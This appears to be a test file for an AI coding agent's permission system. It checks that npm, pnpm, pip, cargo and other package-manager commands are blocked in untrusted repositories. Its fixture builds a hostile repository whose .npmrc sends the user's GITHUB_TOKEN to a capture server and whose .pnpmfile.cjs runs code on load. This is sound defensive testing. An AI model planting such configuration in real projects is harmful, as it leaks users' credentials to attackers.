// Issue 53 item 1: a package manager reads the repository's configuration. `.npmrc` can name a
// registry and put any variable (`${GITHUB_TOKEN}`) in its auth token; npm's update check then sends
// it there. So no package manager runs as a read-only command, in any mode, unasked.
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { startPageServer, type PageServer } from '../support/page-server.ts';
import { makeTempRepo, runBeans, scriptedOllama } from './harness.ts';

const hasNpm = spawnSync('npm', ['--version'], { stdio: 'ignore' }).status === 0;

type ChatBody = { messages: { role: string; content: string }[] };
type Result = { permission_denials: { tool_name: string; tool_input: { command?: string } }[] };

/** A repository whose `.npmrc` sends npm's requests, with the user's token, to `capture`. */
function hostileRepo(capture: PageServer) {
  const host = capture.base.replace(/^http:\/\//, '');
  return makeTempRepo({
    '.npmrc': `registry=${capture.base}/\n//${host}/:_authToken=\${GITHUB_TOKEN}\nupdate-notifier=true\n`,
    'package.json': '{"name":"victim","version":"1.0.0","dependencies":{}}\n',
    'pnpm-workspace.yaml': 'packages: []\n',
    '.pnpmfile.cjs': "require('fs').writeFileSync('PNPMFILE-RAN', 'x'); module.exports = {};\n",
  });
}

async function runCommands(commands: string[], mode: string[]) {
  const capture = await startPageServer({ '/': (_req, res) => res.end('{}') });
  try {
    const repo = hostileRepo(capture);
    const server = await scriptedOllama({
      turns: [{ toolCalls: commands.map((command) => ({ name: 'shell', args: { command } })) }, { text: 'Listed.' }],
    });
    const run = await runBeans(['-p', 'list the dependencies', '-o', 'json', ...mode], {
      cwd: repo.dir,
      env: { ...repo.env, OLLAMA_HOST: server.url, BEANS_PROVIDER: 'ollama', BEANS_MODEL: 'qwen3', GITHUB_TOKEN: 'ghp_the-users-token' },
      timeoutMs: 60_000,
    });
    // npm's update check is a background request: give it time to arrive (it came within ~1 s before the fix).
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const results = server.requests
      .filter((request) => request.kind === 'chat')
      .flatMap((request) => (request.body as ChatBody).messages.filter((message) => message.role === 'tool').map((message) => message.content));
    return { run, hits: [...capture.hits], results, denials: (JSON.parse(run.stdout) as Result).permission_denials, repo };
  } finally {
    await capture.close();
  }
}

describe.skipIf(!hasNpm)("package managers never run unasked: they read the repository's configuration", () => {
  for (const mode of [['--permission-mode', 'plan'], [], ['--permission-mode', 'auto-edit']]) {
    it(`npm ls / list / ll do not run in ${mode[1] ?? 'default'} mode, and nothing reaches the repository's registry`, async () => {
      const commands = ['npm ls', 'npm list --json', 'npm ll --depth=0', 'npm ls && git status'];
      const { run, hits, results, denials } = await runCommands(commands, mode);
      expect(run.code).toBe(0);
      expect(hits).toEqual([]);
      expect(denials.map((denial) => denial.tool_input.command)).toEqual(commands);
      for (const result of results) expect(result).not.toContain('victim@1.0.0');
    }, 90_000);
  }

  it('nor do the other package managers and build tools, whatever their subcommand', async () => {
    const commands = [
      'npx --version',
      'pnpm list',
      'pnpm ls --depth 0',
      'yarn list',
      'yarn why react',
      'pip list',
      'pip3 show requests',
      'python3 -m pip list',
      'cargo metadata',
      'cargo tree',
      'bundle list',
      'gradle dependencies',
      './gradlew tasks',
      'mvn dependency:tree',
      'go list ./...',
      'go env',
      'composer show',
      'poetry show',
      'uv pip list',
      'deno info',
      'bun pm ls',
    ];
    const { run, hits, denials, repo } = await runCommands(commands, ['--permission-mode', 'plan']);
    expect(run.code).toBe(0);
    expect(hits).toEqual([]);
    expect(denials.map((denial) => denial.tool_input.command)).toEqual(commands);
    expect(spawnSync('test', ['-e', `${repo.dir}/PNPMFILE-RAN`]).status).not.toBe(0);
  }, 90_000);
});
